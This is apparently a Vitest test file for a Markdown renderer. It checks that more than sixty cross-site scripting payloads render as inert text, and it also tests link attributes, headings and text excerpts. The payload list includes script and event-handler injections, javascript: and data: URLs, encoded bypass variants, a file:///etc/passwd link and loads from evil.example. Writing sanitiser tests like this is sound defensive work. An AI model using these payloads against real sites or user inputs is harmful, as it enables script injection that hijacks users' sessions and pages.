// @vitest-environment jsdom
import { beforeAll, describe, expect, test } from 'vitest';
import { plainWords, renderMarkdown } from './markdown.tsx';

const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="window.hit=1">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<form id=f></form><button form=f formaction=javascript:alert(1)>x',
  '<input autofocus onfocus=alert(1)>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x',
  '<video src=x onerror=alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<base href="javascript:/a/+alert(1)//">',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<style>@import "javascript:alert(1)";</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><script>alert(1)</script></textarea>',
  '<xmp><script>alert(1)</script></xmp>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p id="author-1" name="cookie" onclick=alert(1)>x</p>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x]( javascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](\\x01javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](//evil.example "onmouseover=alert(1)")',
  '[x](https://a.example/"onmouseover="alert(1))',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '<data:text/html,<script>alert(1)</script>>',
  '![x](https://evil.example/pixel.gif)',
  '![x](javascript:alert(1))',
  '![x"onerror="alert(1)](x)',
  '`<img src=x onerror=alert(1)>`',
  '```<script>\nalert(1)\n```',
  '# <img src=x onerror=alert(1)>',
  '| <img src=x onerror=alert(1)> |\n| --- |\n| <script>alert(1)</script> |',
  '> <svg/onload=alert(1)>',
  '**<b onmouseover=alert(1)>x</b>**',
];

const activeTags =
  'script, img, svg, math, iframe, object, embed, form, input, button, video, audio, style, link, meta, base';

function shown(source: string, kind: 'message' | 'document'): HTMLElement {
  const place = document.createElement('div');
  document.body.append(place);
  const rendered = renderMarkdown(source, kind);
  // jsdom has no trusted types, so what comes is the plain text of the markup.
  if (typeof rendered !== 'string') throw new Error('The markup is not a text here.');
  place.innerHTML = rendered;
  return place;
}

describe('A text that tries to be a program', () => {
  let hits = 0;
  beforeAll(() => {
    Object.assign(window, { alert: () => (hits += 1) });
  });

  test.each(payloads)('is shown as words only: %s', async (payload) => {
    for (const kind of ['message', 'document'] as const) {
      const place = shown(payload, kind);
      expect(place.querySelector(activeTags)).toBeNull();
      for (const element of place.querySelectorAll('*')) {
        const names = element.getAttributeNames();
        expect(names.filter((name) => !['href', 'start', 'target', 'rel', 'dir'].includes(name))).toEqual([]);
        const target = element.getAttribute('href');
        if (target !== null) expect(target).toMatch(/^(?:https?:|mailto:)/i);
      }
      place.remove();
    }
    await Promise.resolve();
    expect(hits).toBe(0);
  });

  test('there are at least sixty of them', () => {
    expect(new Set(payloads).size).toBeGreaterThanOrEqual(60);
  });
});

describe('What Markdown gives', () => {
  test('a link opens elsewhere and tells nothing of where it was', () => {
    const link = shown('see https://example.org/a', 'message').querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://example.org/a');
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(link?.getAttribute('target')).toBe('_blank');
  });

  test('a bare name stays words, and an address in another script stays as it was written', () => {
    expect(shown('It ends.Then example.org goes on', 'message').querySelector('a')).toBeNull();
    expect(shown('https://bücher.example/ä', 'message').textContent?.trim()).toBe('https://bücher.example/ä');
  });

  test('a heading in a message is emphasis; in a document it stands two steps below the page', () => {
    expect(shown('# Terms', 'message').innerHTML.trim()).toBe('<p><strong>Terms</strong></p>');
    expect(shown('# Terms\n\n## First', 'document').innerHTML).toContain('<h3>Terms</h3>');
    expect(shown('## First', 'document').innerHTML).toContain('<h4>First</h4>');
  });

  test('a line break stays one', () => {
    expect(shown('one\ntwo', 'message').querySelectorAll('br')).toHaveLength(1);
  });

  test('a quotation of it is short and plain', () => {
    expect(plainWords('**One** `two`\nthree', 40)).toBe('One two three');
    expect(plainWords('ab😀cdef', 4)).toBe('ab😀…');
  });
});
